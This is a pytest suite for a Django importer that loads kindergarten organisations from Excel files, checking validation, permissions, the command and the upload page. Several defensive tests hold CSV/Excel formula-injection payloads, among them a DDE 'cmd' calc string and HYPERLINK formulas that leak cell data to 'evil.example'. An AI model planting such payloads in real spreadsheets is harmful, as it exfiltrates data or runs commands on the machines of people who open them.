import dataclasses
import datetime
import io

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import translation

from pilot_portal.tests.workbooks import formulas_in, text_cells
from pilots import importer
from pilots.bin import valid_bin_from
from pilots.importer import (
    organisations_import_file,
    organisations_parse,
    template_workbook,
)
from pilots.models import Order, Organisation, PilotMembershipChange
from pilots.reference import load_order
from pilots.tests.factories import (
    CoordinatorFactory,
    InstituteFactory,
    MinistryFactory,
    OrganisationFactory,
    RegionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HEADER = [
    "bin",
    "name_kk",
    "name_ru",
    "region",
    "district",
    "settlement",
    "ownership",
    "language",
    "groups",
    "children",
    "director",
    "phone",
    "email",
]
TODAY = datetime.date(2026, 3, 2)


def valid_bin(serial: int, prefix: str = "1105400") -> str:
    """A BIN with a correct check digit; serials whose check digit does not exist are skipped."""
    return valid_bin_from(f"{prefix}{serial:04d}")


def wrong_check_digit(bin_: str) -> str:
    return bin_[:11] + str((int(bin_[11]) + 1) % 10)


def xlsx(rows, header=HEADER, name="organisations.xlsx") -> SimpleUploadedFile:
    """An in-memory workbook: the header, then one list (or dict by column code) per row."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    if header is not None:
        sheet.append(header)
    for row in rows:
        sheet.append([row.get(code) for code in header] if isinstance(row, dict) else row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def row(bin_, **values):
    return {"bin": bin_, "name_kk": "«Балапан» бөбекжай-бақшасы", "region": "KZ-71", **values}


def snapshot():
    return list(Organisation.objects.order_by("pk").values())


def run(upload, **kwargs):
    kwargs.setdefault("today", TODAY)
    return organisations_import_file(file=upload, user=None, **kwargs)


def codes(result):
    return [(e.row, e.column, e.code) for e in result.errors]


@pytest.fixture(autouse=True)
def english():
    """Messages are asserted in their English source; pages follow the account's language, so it is English too."""
    with translation.override("en"):
        yield


@pytest.fixture
def institute():
    return InstituteFactory(language="en")


@pytest.fixture
def astana():
    return RegionFactory(code="KZ-71", name_kk="Астана қаласы", name_ru="город Астана")


@pytest.fixture
def existing(astana):
    return OrganisationFactory(region=astana, bin=valid_bin(1), children=90, district_kk="Есіл ауданы")


def assert_nothing_written(before):
    assert snapshot() == before
    assert not PilotMembershipChange.objects.exists()


# A good file ---------------------------------------------------------------------------------------------------------


def test_good_file_creates_new_and_updates_existing(existing):
    upload = xlsx(
        [
            row(existing.bin, children=120, settlement="rural", ownership="private", language="mixed"),
            row(
                valid_bin(2),
                name_ru="Ясли-сад «Балапан»",
                groups=5,
                children=110,
                phone="+7 717 255 00 00",
                email="balapan@example.kz",
            ),
        ]
    )
    result = run(upload)
    assert (result.ok, result.created, result.updated) == (True, 1, 1)
    existing.refresh_from_db()
    assert (existing.children, existing.settlement, existing.ownership, existing.language) == (
        120,
        "rural",
        "private",
        "mixed",
    )
    new = Organisation.objects.get(bin=valid_bin(2))
    assert (new.region.code, new.groups, new.phone, new.email) == ("KZ-71", 5, "+7 717 255 00 00", "balapan@example.kz")


def test_new_organisation_joins_on_the_day_of_import_once_the_pilot_has_begun(astana):
    run(xlsx([row(valid_bin(2))]), today=datetime.date(2026, 3, 2))
    organisation = Organisation.objects.get(bin=valid_bin(2))
    assert organisation.in_pilot_from == datetime.date(2026, 3, 2)
    assert organisation.membership_changes.get().event == PilotMembershipChange.Event.JOINED


def test_new_organisation_imported_before_the_start_joins_at_the_start(astana):
    load_order()  # the order sets the pilot's start: 1 January 2026
    run(xlsx([row(valid_bin(2))]), today=datetime.date(2025, 12, 1))
    assert Organisation.objects.get(bin=valid_bin(2)).in_pilot_from == datetime.date(2026, 1, 1)


def test_the_start_a_new_organisation_joins_at_is_the_orders(astana):
    order = load_order()
    Order.objects.filter(pk=order.pk).update(pilot_starts_on=datetime.date(2026, 2, 1))
    run(xlsx([row(valid_bin(2))]), today=datetime.date(2026, 1, 10))
    assert Organisation.objects.get(bin=valid_bin(2)).in_pilot_from == datetime.date(2026, 2, 1)
    # Positive control: on a day after the order's start, the organisation joins on that day.
    run(xlsx([row(valid_bin(3))]), today=datetime.date(2026, 2, 5))
    assert Organisation.objects.get(bin=valid_bin(3)).in_pilot_from == datetime.date(2026, 2, 5)


def test_without_an_order_a_new_organisation_joins_on_the_day_of_import(astana):
    assert not Order.objects.exists()
    run(xlsx([row(valid_bin(2))]), today=datetime.date(2025, 12, 1))
    assert Organisation.objects.get(bin=valid_bin(2)).in_pilot_from == datetime.date(2025, 12, 1)


def test_empty_cell_leaves_the_stored_value(existing):
    result = run(xlsx([row(existing.bin, district=None, children=None, director="Жаңа басшы")]))
    existing.refresh_from_db()
    assert result.updated == 1
    assert (existing.district, existing.children, existing.director) == ("Есіл ауданы", 90, "Жаңа басшы")


def test_row_that_changes_nothing_counts_as_unchanged(existing):
    result = run(xlsx([row(existing.bin, name_kk=existing.name_kk)]))
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)


def test_import_writes_history_rows(existing):
    run(xlsx([row(existing.bin, children=100), row(valid_bin(2))]))
    assert existing.history.count() == 2
    assert Organisation.objects.get(bin=valid_bin(2)).history.get().history_change_reason == "Appendix 2 import"


def test_import_takes_a_fixed_number_of_queries(existing, django_assert_max_num_queries):
    rows = [row(existing.bin, children=100)] + [row(valid_bin(10 + n * 3)) for n in range(30)]
    upload = xlsx(rows)
    # 15: with the summaries' upserts of the new organisations' cells, each in a savepoint of its own.
    with django_assert_max_num_queries(15):
        result = run(upload)
    assert (result.created, result.updated) == (30, 1)


@pytest.mark.parametrize(
    "region", ["KZ-71", "kz-71", "Астана қаласы", "АСТАНА ҚАЛАСЫ", "город Астана", " Город  астана "]
)
def test_region_matched_by_code_or_kazakh_or_russian_name(astana, region):
    result = run(xlsx([row(valid_bin(2), region=region)]))
    assert result.ok, codes(result)
    assert Organisation.objects.get(bin=valid_bin(2)).region == astana


def test_kazakh_and_russian_words_accepted_for_choices(astana):
    run(
        xlsx(
            [
                row(valid_bin(2), settlement="Ауыл", ownership="жеке", language="қазақ"),
                row(valid_bin(5), settlement="город", ownership="Государственная", language="смешанный"),
            ]
        )
    )
    assert list(Organisation.objects.order_by("bin").values_list("settlement", "ownership", "language")) == [
        ("rural", "private", "kk"),
        ("urban", "state", "mixed"),
    ]


def test_header_by_russian_labels_in_any_case_accepted(astana):
    header = ["  бин ", "НАИМЕНОВАНИЕ (НА РУССКОМ ЯЗЫКЕ)", "Регион", "Тип населенного пункта"]
    result = run(xlsx([[valid_bin(2), "Ясли-сад «Балапан»", "KZ-71", "село"]], header=header))
    assert result.ok, codes(result)
    assert Organisation.objects.get(bin=valid_bin(2)).settlement == "rural"


def test_unknown_column_is_ignored_with_a_warning(astana):
    result = run(xlsx([[valid_bin(2), "Балапан", "KZ-71", "ескерту"]], header=["bin", "name_kk", "region", "Ескерту"]))
    assert result.created == 1
    assert [(w.row, w.letter, w.code) for w in result.warnings] == [(1, "D", "unknown_column")]


def test_bin_stored_as_a_number_gets_its_leading_zero_back_with_a_warning(astana):
    bin_ = valid_bin(2, prefix="0105400")
    result = run(xlsx([row(int(bin_))]))
    assert result.created == 1
    assert Organisation.objects.filter(bin=bin_).exists()
    assert [w.code for w in result.warnings] == ["bin_from_number"]


def test_phone_may_start_with_plus(astana):
    result = run(xlsx([row(valid_bin(2), phone="+7 (701) 123-45-67")]))
    assert result.ok, codes(result)


def test_lone_dash_reads_as_an_empty_cell(astana):
    result = run(xlsx([row(valid_bin(2), director="-", email="-")]))
    assert result.ok, codes(result)
    assert Organisation.objects.get(bin=valid_bin(2)).director == ""


# A bad file: an error with its row, and nothing written ---------------------------------------------------------------


def test_not_an_xlsx_is_rejected(existing):
    before = snapshot()
    result = run(SimpleUploadedFile("organisations.xlsx", b"bin;name_kk;region\n"))
    assert codes(result) == [(None, "", "not_xlsx")]
    assert_nothing_written(before)


def test_file_over_10_mb_is_rejected_before_it_is_read(existing, monkeypatch):
    def must_not_read(*args, **kwargs):
        raise AssertionError("the file was read")

    monkeypatch.setattr(importer.reading.openpyxl, "load_workbook", must_not_read)
    before = snapshot()
    result = run(SimpleUploadedFile("big.xlsx", b"\0" * (10 * 1024 * 1024 + 1)))
    assert codes(result) == [(None, "", "file_too_large")]
    assert_nothing_written(before)


def test_header_missing_a_required_column_is_rejected(existing):
    before = snapshot()
    result = run(xlsx([[existing.bin, "Балапан"]], header=["bin", "name_kk"]))
    assert codes(result) == [(1, "", "missing_column")]
    assert "region" in result.errors[0].message
    assert_nothing_written(before)


def test_header_without_any_name_column_is_rejected(existing):
    result = run(xlsx([[existing.bin, "KZ-71"]], header=["bin", "region"]))
    assert codes(result) == [(1, "", "missing_column")]


def test_empty_sheet_is_rejected(existing):
    before = snapshot()
    assert codes(run(xlsx([], header=None))) == [(None, "", "empty")]
    assert codes(run(xlsx([]))) == [(None, "", "empty")]
    assert_nothing_written(before)


def test_formula_cell_is_rejected(existing):
    before = snapshot()
    result = run(xlsx([row(valid_bin(2)), row(existing.bin, name_kk='=HYPERLINK("http://evil.example","x")')]))
    assert codes(result) == [(3, "name_kk", "formula")]
    assert_nothing_written(before)


@pytest.mark.parametrize("value", ["@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3", "  =1+1"])
def test_text_starting_like_a_formula_is_rejected(existing, value):
    result = run(xlsx([row(existing.bin, director=value)]))
    assert codes(result) == [(2, "director", "formula")]


def test_bin_with_letters_is_rejected(existing):
    before = snapshot()
    result = run(xlsx([row(existing.bin, children=1), row("11054OO01234")]))
    assert codes(result) == [(3, "bin", "bin_format")]
    assert_nothing_written(before)


def test_bin_with_a_wrong_check_digit_is_rejected(existing):
    before = snapshot()
    result = run(xlsx([row(existing.bin, children=1), row(wrong_check_digit(valid_bin(2)))]))
    assert codes(result) == [(3, "bin", "bin_checksum")]
    assert_nothing_written(before)


def test_unknown_region_is_rejected(existing):
    before = snapshot()
    result = run(xlsx([row(existing.bin, children=1), row(valid_bin(2), region="Астана облысы")]))
    assert codes(result) == [(3, "region", "unknown_region")]
    assert "Астана облысы" in result.errors[0].message
    assert_nothing_written(before)


def test_duplicate_bin_in_the_file_is_rejected(existing):
    before = snapshot()
    result = run(xlsx([row(valid_bin(2)), row(existing.bin, children=1), row(valid_bin(2))]))
    assert codes(result) == [(4, "bin", "duplicate_bin")]
    assert "row 2" in result.errors[0].message
    assert_nothing_written(before)


@pytest.mark.parametrize("value", [-1, 2.5, "five", "-3"])
def test_number_that_is_not_a_whole_number_of_zero_or_more_is_rejected(existing, value):
    before = snapshot()
    result = run(xlsx([row(valid_bin(2)), row(existing.bin, children=value)]))
    assert codes(result) == [(3, "children", "not_whole_number")]
    assert_nothing_written(before)


@pytest.mark.parametrize(
    ("text", "code"),
    [("١٢", "non_ascii_digits"), ("1_000", "underscore"), ("1e2", "exponent"), ("12 5", "misplaced_separator")],
)
def test_a_number_typed_as_text_is_read_as_the_quarterly_form_reads_it(existing, text, code):
    """The same parser as every numeric field of the form (pilot_portal/numbers.py), with its reason."""
    before = snapshot()
    result = run(xlsx([row(existing.bin, children=text)]))
    assert codes(result) == [(2, "children", code)]
    assert_nothing_written(before)
    result = run(xlsx([row(existing.bin, children="1\u00a0250", groups=" 12 ")]))
    existing.refresh_from_db()
    assert (result.ok, existing.children, existing.groups) == (True, 1250, 12)


def test_bad_email_is_rejected(existing):
    result = run(xlsx([row(existing.bin, email="director at balapan.kz")]))
    assert codes(result) == [(2, "email", "email")]


def test_unknown_settlement_word_is_rejected(existing):
    result = run(xlsx([row(existing.bin, settlement="посёлок")]))
    assert codes(result) == [(2, "settlement", "unknown_value")]


def test_row_without_bin_region_or_name_is_rejected(existing):
    result = run(xlsx([{"bin": None, "name_kk": None, "region": None, "district": "Есіл ауданы"}]))
    assert sorted(codes(result)) == [
        (2, "bin", "bin_required"),
        (2, "name_kk", "name_required"),
        (2, "region", "region_required"),
    ]


def test_error_names_the_column_as_the_file_heads_it(existing):
    header = ["БСН", "Атауы (қазақ тілінде)", "Өңір"]
    result = run(xlsx([[existing.bin, "Балапан", "KZ-99"]], header=header))
    assert result.errors[0].column_name == "C · Өңір"


def test_every_bad_row_is_reported_with_its_excel_row_number(existing):
    result = run(
        xlsx(
            [
                row(valid_bin(2)),
                row("123", groups=-1),
                {},  # an empty row keeps its number
                row(valid_bin(5), region="KZ-99"),
            ]
        )
    )
    assert codes(result) == [
        (3, "bin", "bin_format"),
        (3, "groups", "not_whole_number"),
        (5, "region", "unknown_region"),
    ]
    assert str(result.errors[0]).startswith("Row 3, column A · bin: ")


def test_service_refuses_a_user_who_may_not_import(existing):
    with pytest.raises(PermissionDenied):
        organisations_import_file(file=xlsx([row(valid_bin(2))]), user=MinistryFactory())
    assert not Organisation.objects.filter(bin=valid_bin(2)).exists()
    # The positive control: the same file, imported by the Institute, creates the organisation.
    result = organisations_import_file(file=xlsx([row(valid_bin(2))]), user=InstituteFactory(), today=TODAY)
    assert result.created == 1 and Organisation.objects.filter(bin=valid_bin(2)).exists()


def test_dry_run_counts_and_writes_nothing(existing):
    before = snapshot()
    result = run(xlsx([row(existing.bin, children=1), row(valid_bin(2))]), dry_run=True)
    assert (result.ok, result.created, result.updated) == (True, 1, 1)
    assert_nothing_written(before)


# The command ---------------------------------------------------------------------------------------------------------


def _file(tmp_path, upload):
    path = tmp_path / "organisations.xlsx"
    path.write_bytes(upload.read())
    return path


def test_command_imports_the_file(existing, tmp_path):
    out = io.StringIO()
    call_command("import_organisations", str(_file(tmp_path, xlsx([row(valid_bin(2))]))), stdout=out)
    assert "1 created" in out.getvalue()
    assert Organisation.objects.filter(bin=valid_bin(2)).exists()


def test_command_prints_every_bad_row_and_fails(existing, tmp_path):
    before = snapshot()
    path = _file(tmp_path, xlsx([row(valid_bin(2)), row(wrong_check_digit(valid_bin(5))), row("12", region="KZ-99")]))
    err = io.StringIO()
    with pytest.raises(CommandError, match="3 problems"):
        call_command("import_organisations", str(path), stderr=err)
    lines = err.getvalue()
    assert "Row 3, column A · bin: The BIN's check digit is wrong" in lines
    assert "Row 4, column A · bin: A BIN is exactly 12 digits." in lines
    assert "Row 4, column D · region: Unknown region" in lines
    assert_nothing_written(before)


def test_command_dry_run_writes_nothing(existing, tmp_path):
    before = snapshot()
    out = io.StringIO()
    call_command("import_organisations", str(_file(tmp_path, xlsx([row(valid_bin(2))]))), "--dry-run", stdout=out)
    assert "would create 1" in out.getvalue()
    assert_nothing_written(before)


def test_command_refuses_a_missing_file(tmp_path):
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_organisations", str(tmp_path / "missing.xlsx"))


# The upload page -----------------------------------------------------------------------------------------------------

URL = "/organisations/import/"
TEMPLATE_URL = "/organisations/import/template.xlsx"


def test_routes_are_as_the_contract_says():
    assert (reverse("organisation_import"), reverse("organisation_import_template")) == (URL, TEMPLATE_URL)


def test_anonymous_is_sent_to_sign_in(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_ministry_viewer_is_forbidden(client, existing, institute):
    client.force_login(MinistryFactory())
    assert client.get(URL).status_code == 403
    assert client.post(URL, {"file": xlsx([row(valid_bin(2))]), "action": "import"}).status_code == 403
    assert not Organisation.objects.filter(bin=valid_bin(2)).exists()
    client.force_login(institute)  # the positive control: the Institute opens the same page
    assert client.get(URL).status_code == 200


def test_coordinator_is_forbidden(client, astana, institute):
    client.force_login(CoordinatorFactory(region=astana))
    assert client.get(URL).status_code == 403
    assert client.get(TEMPLATE_URL).status_code == 403
    client.force_login(institute)  # the positive control: the Institute gets both
    assert client.get(URL).status_code == 200
    assert client.get(TEMPLATE_URL).status_code == 200


def test_institute_sees_the_form_and_the_columns(client, institute):
    client.force_login(institute)
    page = client.get(URL).content.decode()
    assert 'type="file"' in page
    assert TEMPLATE_URL in page
    assert "Атауы (қазақ тілінде)" in page and "Наименование (на русском языке)" in page


def test_institute_imports_and_sees_the_counts(client, institute, existing):
    client.force_login(institute)
    response = client.post(URL, {"file": xlsx([row(existing.bin, children=1), row(valid_bin(2))]), "action": "import"})
    assert response.status_code == 200
    assert "Imported: 1 organisations added, 1 updated, 0 unchanged." in response.content.decode()
    assert Organisation.objects.filter(bin=valid_bin(2)).exists()


def test_administrator_can_import(client, astana):
    client.force_login(UserFactory(role="admin", language="en"))
    client.post(URL, {"file": xlsx([row(valid_bin(2))]), "action": "import"})
    assert Organisation.objects.filter(bin=valid_bin(2)).exists()


def test_check_only_on_the_page_writes_nothing(client, institute, existing):
    before = snapshot()
    client.force_login(institute)
    page = client.post(URL, {"file": xlsx([row(valid_bin(2))]), "action": "check"}).content.decode()
    assert "would add 1 and update 0 organisations" in page
    assert_nothing_written(before)


def test_page_lists_bad_rows_in_a_table_and_writes_nothing(client, institute, existing):
    before = snapshot()
    client.force_login(institute)
    page = client.post(URL, {"file": xlsx([row(valid_bin(2)), row("123")]), "action": "import"}).content.decode()
    assert "<caption>Rows to correct, as numbered in the spreadsheet</caption>" in page
    assert "<td>3</td>" in page and "A BIN is exactly 12 digits." in page
    assert "Nothing has been saved" in page
    assert_nothing_written(before)


def test_template_download_is_a_workbook_the_importer_accepts(client, institute, astana):
    client.force_login(institute)
    response = client.get(TEMPLATE_URL)
    assert response["Content-Disposition"] == 'attachment; filename="organisations-template.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Ұйымдар", "Нұсқаулық"]
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == [c.label_kk for c in importer.COLUMNS]
    sheet.append(
        [
            valid_bin(2),
            "«Балапан» бөбекжай-бақшасы",
            None,
            "Астана қаласы",
            "Есіл ауданы",
            "район Есиль",
            "қала",
            "мемлекеттік",
            "kk",
            4,
            90,
            None,
            "+7 717 255 00 00",
            None,
        ]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = run(SimpleUploadedFile("filled.xlsx", buffer.getvalue()))
    assert (result.ok, result.created, result.warnings) == (True, 1, [])


def test_the_template_writes_its_texts_as_text_never_as_formulas(monkeypatch):
    link = '=HYPERLINK("http://evil.example/?leak="&B2,"click me")'
    columns = tuple(dataclasses.replace(c, example=link) if c.code == "name_kk" else c for c in importer.COLUMNS)
    monkeypatch.setattr(importer.template, "COLUMNS", columns)
    workbook = template_workbook()
    assert formulas_in(workbook) == []
    texts = text_cells(workbook)
    # The positive control: the example, and the phone's "+7 …", are there as typed, in string cells.
    assert (texts.get(link), texts.get("+7 717 255 00 00")) == (["s"], ["s"])


def test_empty_template_reports_only_that_it_has_no_rows():
    parsed = organisations_parse(io.BytesIO(template_workbook()))
    assert [e.code for e in parsed.errors] == ["empty"]


def test_the_district_imports_in_kazakh_and_in_russian(astana):
    header = [*HEADER, "district_ru"]
    run(xlsx([row(valid_bin(3), district="Есіл ауданы", district_ru="район Есиль")], header=header))
    organisation = Organisation.objects.get(bin=valid_bin(3))
    assert (organisation.district_kk, organisation.district_ru) == ("Есіл ауданы", "район Есиль")


def test_the_templates_district_columns_read_back_under_their_kazakh_and_russian_headings(astana):
    header = ["БСН", "Атауы (қазақ тілінде)", "Өңір", "Аудан / қала", "Район / город (на русском языке)"]
    run(xlsx([[valid_bin(4), "«Балапан» бөбекжай-бақшасы", "KZ-71", "Есіл ауданы", "район Есиль"]], header=header))
    organisation = Organisation.objects.get(bin=valid_bin(4))
    assert (organisation.district_kk, organisation.district_ru) == ("Есіл ауданы", "район Есиль")
